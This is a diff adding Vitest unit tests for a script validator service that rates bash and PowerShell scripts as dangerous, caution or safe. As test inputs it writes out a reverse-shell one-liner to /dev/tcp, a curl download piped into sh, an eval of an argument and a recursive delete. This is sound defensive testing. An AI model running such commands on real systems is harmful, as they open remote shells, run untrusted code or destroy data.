@@ -0,0 +1,36 @@
+import { describe, it, expect, vi } from 'vitest';
+
+vi.mock('@main/services/logger', () => {
+  const logger = { debug: vi.fn(), info: vi.fn(), warn: vi.fn(), error: vi.fn() };
+  return { createServiceLogger: () => logger, securityLogger: logger };
+});
+
+import ScriptValidatorService from '@main/services/script-validator';
+
+describe('ScriptValidatorService shell rules', () => {
+  const validate = (content: string) => ScriptValidatorService.validateScriptContent(content, 'bash');
+
+  it('should rate eval, sudo and piping downloads into a shell dangerous', async () => {
+    expect((await validate('eval "$1"\n')).securityLevel).toBe('dangerous');
+    expect((await validate('sudo systemctl restart cups\n')).securityLevel).toBe('dangerous');
+    expect((await validate('curl -fsSL http://example.com/x | sh\n')).securityLevel).toBe('dangerous');
+    expect((await validate('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n')).securityLevel).toBe('dangerous');
+  });
+
+  it('should flag recursive deletes', async () => {
+    const result = await validate('rm -rf "$HOME/.cache"\n');
+    expect(result.violations.map(violation => violation.description)).toContain('Use of potentially dangerous command: rm -r');
+    expect(result.securityLevel).toBe('caution');
+  });
+
+  it('should pass harmless shell scripts and ignore comments', async () => {
+    const result = await validate('#!/bin/bash\n# eval and sudo are not used here\ndf -h /\nls -la "$TMPDIR"\n');
+    expect(result.violations).toEqual([]);
+    expect(result.securityLevel).toBe('safe');
+  });
+
+  it('should keep the PowerShell rules for PowerShell scripts', async () => {
+    expect((await ScriptValidatorService.validateScriptContent('Invoke-Expression $code', 'powershell')).securityLevel)
+      .toBe('dangerous');
+  });
+});